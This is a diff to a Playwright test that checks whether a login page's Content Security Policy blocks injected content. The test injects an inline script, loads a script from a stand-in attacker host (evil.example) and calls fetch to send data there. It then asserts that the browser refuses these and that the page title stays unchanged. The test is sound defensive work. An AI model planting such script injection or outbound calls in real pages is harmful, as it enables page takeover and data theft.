@@ -52,7 +52,7 @@ test('what somebody smuggles into a page does not run, and nothing goes elsewher
   const refusals = await refusalsOf(page);
   await page.goto(`${stack.url}/login`);
   await expect(page.getByRole('button', { name: 'Olga Petrova' })).toBeVisible();
-  await page.evaluate(() => {
+  const title = await page.evaluate(() => {
     const script = document.createElement('script');
     script.textContent = 'document.title = "taken over"';
     const foreign = document.createElement('script');
@@ -66,6 +66,8 @@ test('what somebody smuggles into a page does not run, and nothing goes elsewher
     document.getElementById('bait')?.click();
     (document.getElementById('form') as HTMLFormElement).requestSubmit();
     fetch('https://evil.example/data').catch(() => undefined);
+    // Inline scripts run while they are added, or not at all.
+    return document.title;
   });
   const directives = ['script-src-elem', 'script-src-attr', 'img-src', 'base-uri', 'object-src', 'form-action'];
   await expect
@@ -75,6 +77,6 @@ test('what somebody smuggles into a page does not run, and nothing goes elsewher
     'script-src-elem https://evil.example/script.js',
     'script-src-elem inline',
   ]);
-  await expect(page).not.toHaveTitle('taken over');
+  expect(title).toContain('Log in');
   expect(new URL(page.url()).origin).toBe(stack.url);
 });
